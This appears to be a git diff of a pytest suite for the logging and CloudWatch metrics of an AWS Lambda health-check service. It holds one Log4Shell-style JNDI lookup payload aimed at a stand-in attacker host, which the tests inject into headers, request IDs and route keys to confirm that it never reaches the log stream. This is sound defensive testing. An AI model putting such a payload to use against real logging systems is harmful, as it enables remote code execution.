@@ -1,14 +1,13 @@
-"""What on-call reads: one JSON log line and one EMF metric blob per invocation, nothing the caller sent."""
+"""What on-call reads: one record per answered invocation, metrics and fields together, nothing the caller sent."""
 
 from __future__ import annotations
 
-import io
 import json
 import logging
 import subprocess
 import sys
 import warnings
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -18,70 +17,91 @@ from petsage_health.models import HealthCheckResponse
 from tests.conftest import REPO_ROOT, load_event
 
 Invoke = Callable[[Any], Any]
+Written = Callable[[], list[dict[str, Any]]]
 INJECTION = "${jndi:ldap://attacker.example/a}"
 
 
+def records(lines: list[dict[str, Any]], message: str = observability.REQUEST_RECORD) -> list[dict[str, Any]]:
+    return [line for line in lines if line.get("message") == message]
+
+
+def directive(record: dict[str, Any]) -> dict[str, Any]:
+    [only] = record["_aws"]["CloudWatchMetrics"]
+    assert isinstance(only, dict)
+    return only
+
+
+def metric_names(record: dict[str, Any]) -> set[str]:
+    return {metric["Name"] for metric in directive(record)["Metrics"]}
+
+
 @pytest.fixture
-def log_lines() -> Iterator[Callable[[], list[dict[str, Any]]]]:
-    """The JSON lines the function writes, formatted by its own Powertools formatter."""
-    stream = io.StringIO()
-    handler = logging.StreamHandler(stream)
-    handler.setFormatter(observability.logger.registered_formatter)
-    std_logger = logging.getLogger(observability.SERVICE)
-    std_logger.addHandler(handler)
-    yield lambda: [json.loads(line) for line in stream.getvalue().splitlines()]
-    std_logger.removeHandler(handler)
+def clock(monkeypatch: pytest.MonkeyPatch) -> Callable[[float], None]:
+    """perf_counter as the observability module sees it: each call returns the next value set."""
+    readings: list[float] = []
+    monkeypatch.setattr("petsage_health.observability.time.perf_counter", lambda: readings.pop(0))
+    return lambda value: readings.append(value)
 
 
-def answered(lines: list[dict[str, Any]]) -> list[dict[str, Any]]:
-    return [line for line in lines if line["message"] == "Request answered"]
-
-
-def emf_blobs(capsys: pytest.CaptureFixture[str]) -> list[dict[str, Any]]:
-    """The EMF documents printed to stdout, which CloudWatch turns into metrics."""
-    blobs = []
-    for line in capsys.readouterr().out.splitlines():
-        if line.startswith("{") and '"_aws"' in line:
-            blobs.append(json.loads(line))
-    return blobs
-
-
-def request_blobs(blobs: list[dict[str, Any]]) -> list[dict[str, Any]]:
-    return [blob for blob in blobs if "Requests" in blob]
-
-
-def test_each_request_logs_one_line_with_correlation_id_route_status_and_latency(
-    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]]
+def test_an_http_request_writes_exactly_one_line_holding_its_metrics_and_fields(
+    invoke: Invoke, written: Written
 ) -> None:
     event = load_event("health")
     invoke(event)
-    [line] = answered(log_lines())
+    [line] = written()
+    assert line["message"] == "Request answered"
     assert line["level"] == "INFO"
-    assert line["service"] == "petsage-health"
+    assert (line["route"], line["status"]) == ("GET /api/v1/health", 200)
     assert line["correlation_id"] == event["requestContext"]["requestId"]  # the access log's requestId
-    assert line["route"] == "GET /api/v1/health"
-    assert line["status"] == 200
-    assert 0 <= line["latency_ms"] < 5000
+    assert line["function_request_id"]  # Lambda's, from the context
+    assert (line["service"], line["deployment"]) == ("petsage-health", "local")
     assert isinstance(line["cold_start"], bool)
-    assert line["function_request_id"]
+    # The same line is the EMF document CloudWatch turns into metrics.
+    assert directive(line)["Namespace"] == "PetSage"
+    assert directive(line)["Dimensions"] == [["deployment", "route", "service"]]
+    assert (line["Requests"], line["Faults"]) == ([1.0], [0.0])
 
 
-def test_cold_start_is_flagged_on_the_first_invocation_only(
-    invoke: Invoke,
-    log_lines: Callable[[], list[dict[str, Any]]],
-    capsys: pytest.CaptureFixture[str],
-    monkeypatch: pytest.MonkeyPatch,
+def test_latency_is_the_handlers_time_in_milliseconds(invoke: Invoke, written: Written, clock: Any) -> None:
+    clock(100.0)  # begin
+    clock(100.0125)  # record
+    invoke(load_event("health"))
+    [line] = written()
+    assert line["latency_ms"] == 12.5
+
+
+def test_the_lambda_request_id_is_the_contexts(written: Written) -> None:
+    from app import lambda_handler
+    from local_api.lambda_runtime import LocalLambdaContext
+
+    context = LocalLambdaContext(function_name="HealthFunction")
+    lambda_handler(load_event("root"), context)
+    [line] = written()
+    assert line["function_request_id"] == context.aws_request_id
+
+
+def test_a_cold_start_is_counted_in_the_first_record_only(
+    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    # A fresh execution environment, as far as Powertools' two cold-start flags know.
-    monkeypatch.setattr("aws_lambda_powertools.logging.logger.is_cold_start", True)
-    monkeypatch.setattr("aws_lambda_powertools.metrics.provider.cold_start.is_cold_start", True)
+    monkeypatch.setattr(observability, "_fresh_environment", True)
     invoke(load_event("health"))
     invoke(load_event("health"))
-    assert [line["cold_start"] for line in answered(log_lines())] == [True, False]
-    cold = [blob for blob in emf_blobs(capsys) if "ColdStart" in blob]
-    assert len(cold) == 1
-    assert cold[0]["function_name"] == "HealthFunction"
-    assert cold[0]["_aws"]["CloudWatchMetrics"][0]["Namespace"] == "PetSage"
+    first, second = written()
+    assert (first["cold_start"], second["cold_start"]) == (True, False)
+    assert first["ColdStart"] == [1.0]
+    assert metric_names(first) == {"Requests", "Faults", "ColdStart"}
+    assert metric_names(second) == {"Requests", "Faults"}
+
+
+def test_provisioned_concurrency_is_never_a_cold_start(
+    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(observability, "_fresh_environment", True)
+    monkeypatch.setenv("AWS_LAMBDA_INITIALIZATION_TYPE", "provisioned-concurrency")
+    invoke(load_event("health"))
+    [line] = written()
+    assert line["cold_start"] is False
+    assert "ColdStart" not in metric_names(line)
 
 
 @pytest.mark.parametrize(
@@ -90,68 +110,88 @@ def test_cold_start_is_flagged_on_the_first_invocation_only(
         ("health", "GET /api/v1/health", 200),
         ("health-head", "HEAD /api/v1/health", 200),
         ("root", "GET /", 200),
+        ("ready", "GET /api/v1/health/ready", 200),
+        ("openapi", "GET /openapi.json", 200),
         ("not-found", "$default", 404),
         ("malformed-http", "malformed", 400),
         ("direct-invoke", "direct", 200),
         ("scheduled", "direct", 200),
     ],
 )
-def test_every_invocation_flushes_a_request_count_for_its_route(
-    invoke: Invoke,
-    log_lines: Callable[[], list[dict[str, Any]]],
-    capsys: pytest.CaptureFixture[str],
-    event_name: str,
-    route: str,
-    status: int,
+def test_every_invocation_writes_one_record_for_its_route(
+    invoke: Invoke, written: Written, event_name: str, route: str, status: int
 ) -> None:
     invoke(load_event(event_name))
-    [blob] = request_blobs(emf_blobs(capsys))
-    assert blob["route"] == route
-    assert blob["service"] == "petsage-health"
-    assert (blob["Requests"], blob["Faults"]) == ([1.0], [0.0])
-    definition = blob["_aws"]["CloudWatchMetrics"][0]
-    assert definition["Namespace"] == "PetSage"
-    assert definition["Dimensions"] == [["route", "service"]]
-    assert [line["status"] for line in answered(log_lines()) if line["route"] == route] == [status]
+    [record] = records(written())
+    assert (record["route"], record["status"]) == (route, status)
+    assert (record["Requests"], record["Faults"]) == ([1.0], [0.0])
 
 
-def test_a_500_counts_as_a_fault_and_logs_at_error(
-    invoke: Invoke,
-    log_lines: Callable[[], list[dict[str, Any]]],
-    capsys: pytest.CaptureFixture[str],
-    monkeypatch: pytest.MonkeyPatch,
+def test_the_route_label_falls_back_to_the_request_contexts_route_key(invoke: Invoke, written: Written) -> None:
+    event = load_event("root")
+    del event["routeKey"]
+    invoke(event)
+    [record] = records(written())
+    assert record["route"] == "GET /"
+
+
+@pytest.mark.parametrize(
+    ("event_name", "level", "message"),
+    [
+        ("malformed-http", "WARNING", "Rejected malformed HTTP API event"),
+        ("direct-invoke", "INFO", "Direct invocation answered with liveness"),
+    ],
+)
+def test_warnings_and_direct_invocations_add_one_logger_line_with_the_same_ids(
+    invoke: Invoke, written: Written, event_name: str, level: str, message: str
+) -> None:
+    invoke(load_event(event_name))
+    lines = written()
+    [logged] = records(lines, message)
+    [record] = records(lines)
+    assert len(lines) == 2
+    assert logged["level"] == level
+    assert logged["reason"]
+    assert logged["function_request_id"] == record["function_request_id"]
+    assert logged["deployment"] == record["deployment"] == "local"
+
+
+def test_a_500_counts_as_a_fault_and_is_recorded_at_error(
+    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def explode() -> HealthCheckResponse:
         raise RuntimeError("boom")
 
     monkeypatch.setattr("petsage_health.routes.liveness", explode)
     invoke(load_event("health"))
-    [blob] = request_blobs(emf_blobs(capsys))
-    assert (blob["Requests"], blob["Faults"]) == ([1.0], [1.0])
-    [line] = answered(log_lines())
-    assert (line["level"], line["status"]) == ("ERROR", 500)
+    lines = written()
+    [record] = records(lines)
+    assert (record["level"], record["status"]) == ("ERROR", 500)
+    assert (record["Requests"], record["Faults"]) == ([1.0], [1.0])
+    [error] = records(lines, "Unhandled error while resolving the request")
+    assert error["level"] == "ERROR"
+    assert error["function_request_id"] == record["function_request_id"]
 
 
-def test_idle_and_direct_invocations_raise_no_empty_metrics_warning(invoke: Invoke) -> None:
+def test_no_line_warns_about_empty_metrics(invoke: Invoke) -> None:
     with warnings.catch_warnings():
         warnings.simplefilter("error")  # "No application metrics to publish" would raise here
         invoke(load_event("direct-invoke"))
         invoke(load_event("health"))
 
 
-def test_disabled_metrics_print_nothing_and_keep_nothing(
-    invoke: Invoke, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+def test_disabled_metrics_print_no_record_and_keep_nothing(
+    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("POWERTOOLS_METRICS_DISABLED", "true")
     for _ in range(3):
         invoke(load_event("health"))
-    assert emf_blobs(capsys) == []
+    assert records(written()) == []
     assert observability.metrics.metric_set == {}  # Powertools alone would keep them when disabled
+    assert observability.metrics.metadata_set == {}
 
 
-def test_header_and_body_values_never_reach_the_logs_or_metrics(
-    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]], capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_header_and_body_values_never_reach_the_log_stream(invoke: Invoke, written: Written) -> None:
     event = load_event("health")
     event["headers"]["x-api-version"] = INJECTION
     event["headers"]["user-agent"] = INJECTION
@@ -162,44 +202,61 @@ def test_header_and_body_values_never_reach_the_logs_or_metrics(
     malformed["headers"][INJECTION] = 1  # a non-string header: malformed, and its name is caller text
     invoke(event)
     invoke(malformed)
-    written = capsys.readouterr().out + json.dumps(log_lines())
-    assert "Request answered" in written
-    assert "jndi" not in written
+    text = json.dumps(written())
+    assert "Request answered" in text
+    assert "jndi" not in text
 
 
-def test_hand_made_request_ids_and_route_keys_are_not_trusted(
-    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]], capsys: pytest.CaptureFixture[str]
-) -> None:
+def test_hand_made_request_ids_and_route_keys_are_not_trusted(invoke: Invoke, written: Written) -> None:
     event = load_event("health")
     event["requestContext"]["requestId"] = INJECTION
     event["routeKey"] = event["requestContext"]["routeKey"] = f"GET /{INJECTION}"
     invoke(event)
-    [line] = answered(log_lines())
-    assert "correlation_id" not in line
-    assert line["route"] == "unknown"
-    assert request_blobs(emf_blobs(capsys))[0]["route"] == "unknown"
+    [record] = records(written())
+    assert "correlation_id" not in record
+    assert record["route"] == "unknown"
 
 
 def test_no_key_of_one_invocation_leaks_into_the_next(
-    invoke: Invoke, log_lines: Callable[[], list[dict[str, Any]]], monkeypatch: pytest.MonkeyPatch
+    invoke: Invoke, written: Written, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     def liveness_that_tags_the_log() -> HealthCheckResponse:
         observability.logger.append_keys(pet_id="first-invocation-only")
+        observability.logger.warning("tagged")
         return HealthCheckResponse()
 
     monkeypatch.setattr("petsage_health.routes.liveness", liveness_that_tags_the_log)
-    first = load_event("health")
-    invoke(first)
+    invoke(load_event("health"))
     monkeypatch.undo()
-    second = load_event("root")
+    second = load_event("malformed-http")
     second["requestContext"]["requestId"] = "Vq1aAbCdIAMEsEc="
     invoke(second)
     invoke(load_event("direct-invoke"))
-    first_line, second_line, direct_line = answered(log_lines())
-    assert first_line["pet_id"] == "first-invocation-only"
-    assert "pet_id" not in second_line
-    assert second_line["correlation_id"] == "Vq1aAbCdIAMEsEc="
-    assert "correlation_id" not in direct_line
+    tagged = records(written(), "tagged")[0]
+    malformed = records(written(), "Rejected malformed HTTP API event")[0]
+    direct = records(written(), "Direct invocation answered with liveness")[0]
+    assert tagged["pet_id"] == "first-invocation-only"
+    assert "pet_id" not in malformed
+    assert malformed["correlation_id"] == "Vq1aAbCdIAMEsEc="
+    assert "correlation_id" not in direct
+    assert len({tagged["function_request_id"], malformed["function_request_id"], direct["function_request_id"]}) == 3
+
+
+def test_sdk_loggers_write_only_warnings_in_the_functions_format(written: Written, invoke: Invoke) -> None:
+    observability.quiet_third_party_loggers()
+    invoke(load_event("root"))  # an invocation's keys are in place, as when readiness makes its clients
+    logging.getLogger("botocore.credentials").info("Found credentials in environment variables.")
+    logging.getLogger("urllib3.connectionpool").debug("Starting new HTTPS connection")
+    logging.getLogger("botocore.endpoint").warning("Retrying request")
+    lines = written()
+    messages = [line["message"] for line in lines]
+    assert "Found credentials in environment variables." not in messages
+    assert "Starting new HTTPS connection" not in messages
+    [warning] = records(lines, "Retrying request")
+    assert warning["level"] == "WARNING"
+    assert warning["service"] == "petsage-health"
+    assert warning["function_request_id"] == records(lines)[0]["function_request_id"]
+    assert not logging.getLogger("botocore").propagate  # the runtime's root handler never sees them
 
 
 def test_the_liveness_path_imports_neither_the_xray_sdk_nor_an_sdk_client() -> None:
